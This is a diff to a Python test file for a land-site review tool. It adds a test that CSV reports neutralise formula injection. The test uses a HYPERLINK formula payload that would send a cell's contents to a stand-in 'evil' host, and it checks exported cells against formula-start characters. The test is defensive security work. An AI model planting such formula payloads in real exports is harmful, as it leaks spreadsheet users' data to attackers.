@@ -1,4 +1,4 @@
-"""The report (JSON, CSV, GeoJSON), the verdict, the config file, stored history and the rice ledger."""
+"""The report (JSON, CSV with formula cells neutralised, GeoJSON), verdict, config, history, ledger."""
 
 from __future__ import annotations
 
@@ -142,3 +142,15 @@ def test_stored_history_and_ledger(ctx, tmp_path):
                        config=ReviewConfig())
     f = rep3.finding("proposal_overlap")
     assert (f.severity, f.value) == ("block", pytest.approx(15.0))  # 500 × 300 m over "Khu lúa"
+
+
+@pytest.mark.parametrize("lang,severity", [("vi", "Cảnh báo"), ("en", "Warning")])
+def test_report_csv_neutralises_a_formula_site_name(ctx, lang: str, severity: str) -> None:
+    name = '=HYPERLINK("http://evil/?"&A1,"Bấm vào đây")'
+    rep = review_site(RICE, attrs=SiteAttrs(name=name), context=ctx, config=ReviewConfig())
+    rows = list(csv.reader(io.StringIO(rep.to_csv(lang))))
+    assert all(r[0] == "'" + name for r in rows[1:])
+    rice = next(r for r in rows if r[1] == "rice_land")
+    assert rice[2] == severity
+    assert float(rice[4]) == pytest.approx(50.0)  # numbers stay numbers
+    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for r in rows for c in r)
